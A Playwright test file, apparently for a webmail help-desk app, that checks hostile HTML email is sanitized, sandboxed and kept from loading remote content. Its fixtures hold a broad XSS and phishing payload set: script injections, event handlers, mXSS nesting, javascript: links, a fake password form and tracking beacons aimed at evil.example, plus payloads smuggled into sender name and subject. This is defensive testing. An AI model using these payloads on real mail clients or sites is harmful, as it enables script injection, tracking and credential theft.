"""Mail is hostile: it runs nothing, loads nothing, leads nowhere, and what it brings along is only ever a file."""

from __future__ import annotations

import hashlib
import re
from pathlib import Path

import pytest
from playwright.sync_api import FrameLocator, expect

from .chromium import Visitor
from .houses import Demo

SCRIPTED = b"<!doctype html><script>document.title = 'taken'; fetch('/desk/all/')</script><h1>Faktura</h1>"
HOSTILE = """
<html><head>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/a.css"><link rel="prefetch" href="https://evil.example/prefetch">
<style>@import url(https://evil.example/b.css); body { background: url(https://evil.example/bg.png) }
.x { position: fixed; inset: 0; z-index: 9999 } @font-face { font-family: f; src: url(https://evil.example/f.woff) }
</style>
<script>top.document.title = "taken"; alert(1)</script>
</head><body onload="alert(2)" background="https://evil.example/background.png">
<p>Vážený kliente, čtěte až sem.</p>
<img src=x onerror="alert(3)"><img src="https://evil.example/pixel.gif"><img srcset="https://evil.example/2x.png 2x">
<svg onload="alert(4)"><script>alert(5)</script><image href="https://evil.example/svg.png"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="alert(6)"></style></mglyph></table></mtext></math>
<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>parent.alert(7)</script>"></iframe>
<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">
<video poster="https://evil.example/poster.png" src="https://evil.example/v.mp4" autoplay></video>
<audio src="https://evil.example/a.mp3" autoplay></audio>
<form action="https://evil.example/login"><input name="password" type="password" autofocus onfocus="alert(8)">
<button>Přihlásit</button></form>
<a href="javascript:alert(9)">Skript</a>
<a href="https://evil.example/bank" target="_top" onclick="alert(10)">https://www.banka.example/</a>
<div class="x" style="position:fixed;top:0;left:0;width:9999px;height:9999px;background:url(https://evil.example/d.png)">
Přes celou stránku</div><p>Konec zprávy.</p></body></html>
"""


def frame_of(visitor: Visitor) -> FrameLocator:
    return visitor.page.frame_locator("iframe.mail-frame")


@pytest.fixture
def opened(petr: Visitor, demo: Demo) -> Visitor:
    """Petr, who has just opened the worst of letters."""
    name = '<img src=x onerror=alert(11)>"><script>alert(12)</script>'
    letter = demo.write(
        "<script>alert(13)</script> Výzva",
        "Text\n",
        html=HOSTILE,
        sender=(name, "klient@banka.example"),
        files=(("faktura.html", "text/html", SCRIPTED), ("obr.svg", "image/svg+xml", b"<svg onload='alert(14)'/>")),
    )
    petr.go("/desk/unassigned/")
    petr.open(str(letter["Subject"]))
    return petr


def test_it_runs_nothing_and_asks_nobody(opened: Visitor) -> None:
    expect(frame_of(opened).locator("body")).to_contain_text("Konec zprávy.")
    page, frame = opened.page, opened.page.locator("iframe.mail-frame")
    assert "allow-scripts" not in (frame.get_attribute("sandbox") or "")
    assert "taken" not in page.title()
    expect(page).to_have_url(re.compile(r"/conversations/\d+/"))
    for gone in (
        "script",
        "iframe",
        "form",
        "input",
        "object",
        "embed",
        "svg",
        "video",
        "audio",
        "link",
        "meta[http-equiv]",
    ):
        expect(frame_of(opened).locator(f"body {gone}")).to_have_count(0)
    frame_of(opened).get_by_text("Skript").click()
    page.wait_for_function("document.readyState === 'complete'")
    # Dialogs and requests to the outside are looked for when the test has ended, as in every other one.


def test_it_covers_nothing_of_the_desk(opened: Visitor) -> None:
    expect(frame_of(opened).locator("body")).to_contain_text("Konec zprávy.")
    opened.page.get_by_role("button", name="Odpovědět", exact=True).click()
    expect(opened.page.locator("#text")).to_be_focused()


def test_a_link_shows_where_it_leads_and_opens_apart(opened: Visitor) -> None:
    link = frame_of(opened).locator("a[href='https://evil.example/bank']")
    expect(link).to_have_attribute("title", "evil.example")  # its words name somebody else
    expect(link).to_have_attribute("rel", re.compile("noopener"))
    expect(link).to_have_attribute("rel", re.compile("noreferrer"))
    opened.expected_outside = ["https://evil.example/bank"]
    opened.accepted = ["ERR_FAILED"]
    with opened.context.expect_page() as popup:
        link.click()
    popup.value.close()
    expect(opened.page).to_have_url(re.compile(r"/conversations/\d+/"))


def test_remote_images_wait_until_they_are_asked_for(petr: Visitor, demo: Demo) -> None:
    letter = demo.write("Novinky", html='<p>Sleva</p><img src="https://shop.example/a.gif" alt="Leták" width="40">')
    petr.go("/desk/unassigned/")
    petr.open(str(letter["Subject"]))
    expect(frame_of(petr).locator("body")).to_contain_text("Sleva")
    assert petr.outside == []
    petr.page.get_by_role("link", name="Zobrazit obrázky").click()
    image = frame_of(petr).locator("img")
    expect(image).to_have_js_property("naturalWidth", 1)
    expect(petr.page.get_by_role("link", name="Zobrazit obrázky")).to_have_count(0)
    petr.expected_outside = ["https://shop.example/a.gif"]


def test_a_file_is_a_download_whatever_it_says_it_is(opened: Visitor, tmp_path: Path) -> None:
    page = opened.page
    with page.expect_download() as download:
        page.get_by_role("link", name="Stáhnout faktura.html").click()
    assert download.value.suggested_filename == "faktura.html"
    target = tmp_path / "faktura.html"
    download.value.save_as(target)
    assert hashlib.sha256(target.read_bytes()).digest() == hashlib.sha256(SCRIPTED).digest()

    for name in ("faktura.html", "obr.svg"):
        url = page.get_by_role("link", name=f"Stáhnout {name}").get_attribute("href") or ""
        answer = opened.context.request.get(opened.base + url)
        assert answer.headers["content-type"] == "application/octet-stream"
        assert answer.headers["content-disposition"].startswith("attachment")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "default-src 'none'" in answer.headers["content-security-policy"]
        inline = opened.context.request.get(f"{opened.base}{url}?inline")
        assert inline.headers["content-type"].split(";")[0] in {"text/plain", "application/octet-stream"}
        assert "sandbox" in inline.headers["content-security-policy"]


def test_a_link_that_names_another_host_has_the_true_one_beside_it(petr: Visitor, demo: Demo) -> None:
    hiding = "<style>span, a + * { display: none !important; font-size: 0 !important }</style>"
    link = '<p style="color:#fff">Na <a href="https://zlo.example/csob">www.csob.cz</a>.</p>'
    letter = demo.write("Ověření účtu", html=hiding + link)
    petr.go("/desk/unassigned/")
    petr.open(str(letter["Subject"]))
    mark = frame_of(petr).locator("a + span")
    expect(mark).to_have_text("zlo.example")
    expect(mark).to_be_visible()
    assert mark.evaluate("it => [getComputedStyle(it).fontSize, getComputedStyle(it).color]") == [
        "12px",
        "rgb(109, 58, 14)",
    ]
